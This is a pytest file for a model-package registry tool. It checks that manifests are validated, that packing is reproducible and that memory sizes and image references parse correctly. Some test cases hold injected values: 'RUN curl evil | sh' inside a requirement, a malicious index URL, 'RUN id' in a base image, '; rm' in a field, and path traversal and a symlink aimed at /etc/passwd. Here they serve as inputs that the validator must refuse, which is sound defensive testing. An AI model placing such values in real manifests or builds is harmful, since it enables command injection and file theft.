"""The package format: bundled examples and `aid init` starters are valid; packing is reproducible."""

import subprocess
import sys
from pathlib import Path

import pytest

from registry.manifest import PackageInvalid, parse_manifest
from registry.package import check_example_outputs, pack, validate_package
from runners.buildcontext import BuildContextError, check_base_image
from tests.hubserver import REPO
from vocab.images import IMAGE_RE
from vocab.sizes import parse_size

AID = str(Path(sys.executable).parent / "aid")


@pytest.mark.parametrize("name", ["iris-onnx", "digits-torch", "wine-python"])
def test_bundled_examples_are_valid(name):
    package = validate_package(REPO / "examples" / name)
    assert package.manifest.name == name
    assert package.examples and all(e["outputs"]["label"] for e in package.examples)


def test_onnx_schema_comes_from_the_graph():
    package = validate_package(REPO / "examples" / "iris-onnx")
    assert package.inputs == {"features": {"dtype": "float32", "shape": [-1, 4]}}
    assert package.outputs == {
        "label": {"dtype": "int64", "shape": [-1]},
        "probabilities": {"dtype": "float32", "shape": [-1, 3]},
    }


@pytest.mark.parametrize("framework", ["onnx", "torch", "sklearn", "python"])
def test_aid_init_writes_a_valid_package(tmp_path, framework):
    result = subprocess.run(
        [AID, "init", str(tmp_path / "pkg"), "--framework", framework], capture_output=True, text=True
    )
    assert result.returncode == 0, result.stderr
    assert "Next: edit aid.yaml and README.md" in result.stdout
    package = validate_package(tmp_path / "pkg")
    assert (package.manifest.name, package.manifest.framework) == ("pkg", framework)


def test_aid_init_refuses_a_folder_that_is_not_empty(tmp_path):
    (tmp_path / "pkg").mkdir()
    (tmp_path / "pkg" / "keep.txt").write_text("mine")
    result = subprocess.run(
        [AID, "init", str(tmp_path / "pkg"), "--framework", "onnx"], capture_output=True, text=True
    )
    assert result.returncode == 2
    assert "is not empty; choose a new folder" in result.stderr


def test_pack_is_reproducible_and_skips_caches(tmp_path):
    subprocess.run(
        [AID, "init", str(tmp_path / "pkg"), "--framework", "python"], check=True, capture_output=True
    )
    first = pack(tmp_path / "pkg")
    (tmp_path / "pkg" / "__pycache__").mkdir()
    (tmp_path / "pkg" / "__pycache__" / "x.pyc").write_bytes(b"junk")
    assert pack(tmp_path / "pkg") == first


def test_pack_refuses_symlinks(tmp_path):
    subprocess.run(
        [AID, "init", str(tmp_path / "pkg"), "--framework", "python"], check=True, capture_output=True
    )
    (tmp_path / "pkg" / "secret").symlink_to("/etc/passwd")
    with pytest.raises(PackageInvalid, match="secret: is a symbolic link"):
        pack(tmp_path / "pkg")


@pytest.mark.parametrize(
    "field, value, problem",
    [
        (
            "requirements",
            ["numpy\nRUN curl evil | sh"],
            "requirements[0]: 'numpy\\nRUN curl evil | sh' is not a plain requirement",
        ),
        ("requirements", ["numpy; os_name=='posix'"], "is not a plain requirement"),
        ("requirements", ["--index-url=http://evil"], "is not a plain requirement"),
        ("python", "3.11\nRUN x", "python: '3.11\\nRUN x' is not valid"),
        (
            "entrypoint",
            "predict.py:Model; import os",
            "entrypoint: 'predict.py:Model; import os' is not valid",
        ),
        (
            "artifact",
            "../../etc/passwd",
            "artifact: '../../etc/passwd' must be a relative path inside the package",
        ),
        ("name", "x\ny", "name: 'x\\ny' is not valid"),
        ("resources", {"gpu": "all; rm"}, "resources.gpu: 'all; rm' must be 0, a GPU count, or 'optional'"),
    ],
)
def test_hostile_manifest_values_are_refused(field, value, problem):
    data = {"name": "ok", "version": "1.0.0", "task": "t", "framework": "python", "entrypoint": "p.py:M",
            "inputs": {"x": {"dtype": "float32", "shape": [-1]}}, field: value}  # fmt: skip
    with pytest.raises(PackageInvalid) as e:
        parse_manifest(data)
    assert any(problem in str(p) for p in e.value.problems), e.value.problems


@pytest.mark.parametrize(
    "want, got, same",
    [
        ([[2.0, 4.0]], [[2.0000000000000004, 4.000000000000001]], True),
        ([[2.0, 4.0]], [[2.1, 4.0]], False),
        ([0, 1], [0, 1], True),
        ([0, 1], [0, 2], False),
        ([0], [0.0], False),
        (["setosa"], ["setosa"], True),
        ([[1.0]], [[1.0, 2.0]], False),
        ([True], [1], False),
    ],
)
def test_example_outputs_compare_floats_with_tolerance_and_the_rest_exactly(want, got, same):
    assert (check_example_outputs({"outputs": {"y": want}}, {"y": got}) == []) is same


@pytest.mark.parametrize("field", ["tags", "requirements"])
def test_a_trailing_newline_cannot_slip_past_the_patterns(field):
    data = {"name": "ok", "version": "1.0.0", "task": "t", "framework": "python", "entrypoint": "p.py:M",
            "inputs": {"x\n": {"dtype": "float32", "shape": [-1]}}, field: ["numpy\n"]}  # fmt: skip
    with pytest.raises(PackageInvalid) as e:
        parse_manifest(data)
    expected = {"inputs.x\n", "tags[0]"} if field == "tags" else {"inputs.x\n"}  # a requirement is stripped
    assert {p.path for p in e.value.problems} == expected


# --- resources and base_image ------------------------------------------------------------------

MINIMAL = {"name": "ok", "version": "1.0.0", "task": "t", "framework": "python", "entrypoint": "p.py:M",
           "inputs": {"x": {"dtype": "float32", "shape": [-1]}}}  # fmt: skip


@pytest.mark.parametrize(
    "text, size",
    [
        ("256Mi", 268_435_456),
        ("512Mi", 536_870_912),
        ("2Gi", 2_147_483_648),
        ("1.5Gi", 1_610_612_736),
        ("64Ki", 65_536),
        ("1Ti", 1024**4),
        ("1G", 1_000_000_000),
        ("500M", 500_000_000),
        ("2K", 2_000),
        ("1T", 10**12),
        ("268435456", 268_435_456),
        (268435456, 268_435_456),
        (" 1Gi ", 1024**3),
        ("0.5Ki", 512),
        ("1.0000001Ki", 1025),  # a fraction of a byte rounds up
    ],
)
def test_memory_sizes_parse_as_kubernetes_reads_them(text, size):
    assert parse_size(text) == size


@pytest.mark.parametrize("text", ["2g", "1GB", "1gi", "-1Gi", "1e9", "Gi", "", "1 Gi", "1Gi\n1", True, None])
def test_memory_that_is_not_a_size_is_refused(text):
    with pytest.raises(ValueError, match="is not a size such as 512Mi or 2Gi"):
        parse_size(text)


@pytest.mark.parametrize(
    "resources, problem",
    [
        ({"memory": "2g"}, "resources.memory: '2g' must be a size such as 512Mi or 2Gi"),
        ({"memory": 512}, "resources.memory: '512' is 512 bytes, under the smallest limit 6Mi; write a unit"),
        ({"cpu": 0.001}, "resources.cpu: 0.001 must be a number of CPUs from 0.01 to 256"),
        ({"cpu": "500m"}, "resources.cpu: '500m' must be a number of CPUs from 0.01 to 256"),
        ({"cpu": 257}, "resources.cpu: 257 must be a number of CPUs from 0.01 to 256"),
    ],
)
def test_resources_that_no_engine_can_apply_are_refused(resources, problem):
    with pytest.raises(PackageInvalid) as e:
        parse_manifest({**MINIMAL, "resources": resources})
    assert len(e.value.problems) == 1 and str(e.value.problems[0]).startswith(problem), e.value.problems


def test_resources_are_kept_as_written_and_default_to_one_cpu_and_1gi():
    assert parse_manifest(MINIMAL).resources == {"cpu": 1, "memory": "1Gi", "gpu": "0"}
    manifest = parse_manifest({**MINIMAL, "resources": {"cpu": 0.5, "memory": "256Mi"}})
    assert manifest.resources == {"cpu": 0.5, "memory": "256Mi", "gpu": "0"}


@pytest.mark.parametrize(
    "value",
    [
        "localhost/aidhub/base:py3.11",
        {"cpu": "python:3.11-slim"},
        {"cpu": "aidhub/base:py3.11", "gpu": f"registry.example.com:5000/team/cuda@sha256:{'a' * 64}"},
    ],
)
def test_base_image_may_be_one_reference_or_one_per_device(value):
    assert parse_manifest({**MINIMAL, "base_image": value}).base_image == value


@pytest.mark.parametrize(
    "value, problem",
    [
        ("python", "base_image: 'python' is not valid: use an image reference with a tag or digest"),
        ("python:3.11\nRUN id", "base_image: 'python:3.11\\nRUN id' is not valid"),
        ("python:3.11 AS x", "base_image: 'python:3.11 AS x' is not valid"),
        (
            "--platform=linux/arm64 python:3.11",
            "base_image: '--platform=linux/arm64 python:3.11' is not valid",
        ),
        ({"cpu": "$BASE:1"}, "base_image.cpu: '$BASE:1' is not valid"),
        ({"gpu": ["a:1"]}, "base_image.gpu: ['a:1'] is not valid"),
        ({"torch-gpu": "my/torch:1"}, "base_image.torch-gpu: unknown key; use cpu or gpu"),
        (["a:1"], "base_image: ['a:1'] is not valid"),
    ],
)
def test_hostile_or_unknown_base_image_is_refused(value, problem):
    with pytest.raises(PackageInvalid) as e:
        parse_manifest({**MINIMAL, "base_image": value})
    assert len(e.value.problems) == 1 and str(e.value.problems[0]).startswith(problem), e.value.problems


@pytest.mark.parametrize(
    "image",
    [
        "python:3.11-slim", "aidhub/base:py3.11", "localhost/aidhub-base:3.11",
        "a.b-c.example:5000/x/y_z:1.0-rc",
        f"nvidia/cuda:12.8.1-cudnn-runtime-ubuntu24.04@sha256:{'0' * 64}", f"img@sha256:{'f' * 64}",
        "python", "Python:3.11", "python:-bad", "python@sha256:abc", "$BASE:1", "x y:1", "python:3.11\n",
        "a__b:1", "a___b:1", "a--b:1", "-a:1", "a:" + "t" * 128, "a:" + "t" * 129, "host:99999/a:1",
    ],
)  # fmt: skip
def test_build_context_accepts_exactly_the_image_reference_grammar(image):
    try:
        check_base_image(image)
        accepted = True
    except BuildContextError:
        accepted = False
    assert (IMAGE_RE.fullmatch(image) is not None) is accepted


def test_the_onnx_schema_of_a_large_model_is_read_without_loading_its_weights(tmp_path):
    """A 200 MB graph whose weight is also listed as an input (older exporters do that)."""
    script = f"""
import resource, sys, numpy as np
from onnx import TensorProto, helper, numpy_helper, save
weight = numpy_helper.from_array(np.random.default_rng(0).random((800_000, 64), dtype=np.float32), "W")
inputs = [helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 800_000]),
          helper.make_tensor_value_info("W", TensorProto.FLOAT, [800_000, 64])]
graph = helper.make_graph([helper.make_node("MatMul", ["x", "W"], ["y"])], "g", inputs,
                          [helper.make_tensor_value_info("y", TensorProto.FLOAT, [None, 64])], [weight])
save(helper.make_model(graph), "{tmp_path / "big.onnx"}")
"""
    subprocess.run([sys.executable, "-c", script], check=True)
    read = f"""
import re
from pathlib import Path
from registry.onnx_schema import read_onnx_schema
schema = read_onnx_schema(Path("{tmp_path / "big.onnx"}"))
print(schema, re.search(r"VmHWM:\\s+(\\d+)", open("/proc/self/status").read()).group(1))
"""  # VmHWM, not ru_maxrss: a child forked from pytest reports pytest's size as its own peak
    out = subprocess.run([sys.executable, "-c", read], check=True, capture_output=True, text=True, cwd=REPO)
    schema, peak_kib = out.stdout.rsplit(" ", 1)
    assert schema == str(
        ({"x": {"dtype": "float32", "shape": [-1, 800_000]}}, {"y": {"dtype": "float32", "shape": [-1, 64]}})
    )
    assert (tmp_path / "big.onnx").stat().st_size > 200_000_000
    assert int(peak_kib) < 120 * 1024  # the weights are 204 MB
